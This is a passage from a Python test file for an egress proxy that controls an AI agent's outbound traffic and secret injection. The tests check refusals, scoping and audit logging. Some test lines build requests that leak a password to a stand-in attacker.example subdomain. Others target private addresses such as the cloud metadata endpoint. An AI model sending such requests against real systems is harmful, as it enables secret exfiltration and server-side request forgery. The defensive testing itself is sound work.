        assert connect(f"{leak}.attacker.example:443") == (403, "secret_sent")
        plain = f"GET http://{leak}.attacker.example/ HTTP/1.1\r\nHost: {leak}.attacker.example\r\n{password}\r\n"
        assert refusal(stage.raw(plain.encode(), tls=False)) == (403, "secret_sent")
    for target, expected in (
        ("http://127.0.0.1/", (403, "private_address")),
        ("http://169.254.169.254/latest", (403, "private_address")),
        ("http://[::ffff:10.0.0.1]/", (403, "private_address")),
        ("http://[::1]:8080/", (403, "port_closed")),
        (f"https://localhost:{stage.api.port}/who", (400, "malformed")),
        ("/who", (400, "malformed")),
        ("ftp://127.0.0.1/", (400, "malformed")),
    ):
        host = target.partition("://")[2].partition("/")[0] or "a.example"
        sent = f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{password}\r\n".encode()
        assert refusal(stage.raw(sent, tls=False)) == expected, target
    unproved = b"GET http://127.0.0.1/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    assert refusal(stage.raw(unproved, tls=False)) == (407, "no_password")


def test_the_proxy_reports_a_program_that_pins_certificates(stage: EgressStage) -> None:
    stage.context, own = ssl.create_default_context(), stage.context
    try:
        with pytest.raises(ssl.SSLError):
            stage.ask("/who")
        eventually(lambda: any("pins certificates" in alarm for alarm in stage.alarms))
    finally:
        stage.context = own


def test_a_secret_is_given_only_to_the_proxy_of_its_agent(stage: EgressStage) -> None:
    other, key = stage.live_server.agent()
    uri = f"http://localhost/egress/{other}"
    _, guard = stage.live_server.resource(uri, [])
    foreign = Gate(
        Plan(
            server="egress",
            agent=str(key),
            guard=str(guard),
            uri=uri,
            spool=str(key.with_suffix(".spool")),
            mode=str(key.with_suffix(".mode")),
            url=stage.live_server.server.url,
        )
    )
    foreign.start()
    try:
        host = f"localhost:{stage.api.port}"
        with pytest.raises(Forbidden, match="no policy permits"):  # the folder is of another agent
            foreign.use_secret(Injection("api", "GET", host, "/who", ""))
        assert stage.live_server.entries(action="vault.inject", limit=1)[0]["outcome"] == "refused"
        body = {"token": "x", "destination": "api", "method": "GET", "host": host, "path": "/who"}
        with Agent.from_credential(key, url=stage.live_server.server.url) as agent:
            url = f"{stage.live_server.server.url}/feed/v1/use-secret"
            answer = agent.request("POST", url, resource=f"{agent.issuer}/api/v1", json=body)
        assert (answer.status_code, answer.json()["error"]) == (403, "insufficient_scope")
    finally:
        foreign.close()
    with pytest.raises(AssertionError, match="already sets this field"):
        stage.add("twice", stage.api.origin, "header", "authorization")


def test_each_use_of_a_secret_is_a_ledger_entry_without_the_value(stage: EgressStage) -> None:
    entries = stage.live_server.entries(action="vault.inject", limit=50)
    entry = next(one for one in entries if one.get("outcome", "ok") == "ok")
    assert entry["detail"]["destination"] == "api"
    assert (entry["object"], entry["resource"]) == (stage.secret, stage.uri)
    assert VALUE not in json.dumps(stage.live_server.entries(limit=500))


def test_a_request_that_needs_a_sealed_secret_is_refused_with_a_hint_to_unseal(
    stage: EgressStage, api: EgressApi, tmp_path: Path
) -> None:
    key = ("--key-file", str(tmp_path / "unseal.key"))
    stage.live_server.server.ostiary("secret", "seal", *key)
    try:
        before = len(api.asked)
        status, _, text = stage.ask("/never-asked-before")
        refused = json.loads(text)
        assert (status, len(api.asked)) == (503, before)
        assert "the secrets are sealed" in refused["message"]
        assert "ostiary secret unseal" in refused["hint"]
    finally:
        stage.live_server.server.ostiary("secret", "unseal", *key)
    assert stage.ask("/never-asked-before")[0] == 200


def test_the_suspension_of_the_agent_ends_exchanges_in_progress(stage: EgressStage, api: EgressApi) -> None:
    api.go.clear()
    host, _, _ = hello(stage).partition(b"Connection")
    upload = host.replace(b"GET /ws", b"POST /who") + b"Transfer-Encoding: chunked\r\n\r\n"
    events, frames, body = stage.open(), stage.open(), stage.open()
    with events, frames, body:
        events.sendall(host.replace(b"/ws", b"/events") + b"\r\n")
        frames.sendall(hello(stage))
        body.sendall(upload + b"1\r\nx\r\n")
        begun = b""
        while b"data: s\n" not in begun:
            begun += events.recv(1000)
        assert b" 101 " in frames.recv(1000)
        eventually(lambda: any(path == "/ws" for _, path, _, _ in api.asked))
        stage.live_server.server.ostiary("agent", "suspend", stage.agent)
        try:
            for sock in (events, frames, body):
                assert end_of(sock) in (b"", b"403")
            assert refusal(stage.raw(hello(stage).replace(b"/ws", b"/who")))[0] == 403
        finally:
            stage.live_server.server.ostiary("agent", "resume", stage.agent)
            api.go.set()
    eventually(lambda: stage.ask("/who")[0] == 200)


def end_of(sock: ssl.SSLSocket) -> bytes:
    """Return what comes before the end: nothing, or the status of a refusal."""
    rest = b""
    with suppress(ConnectionError, ssl.SSLError):
        while part := sock.recv(1000):
            rest += part
    return rest[9:12]
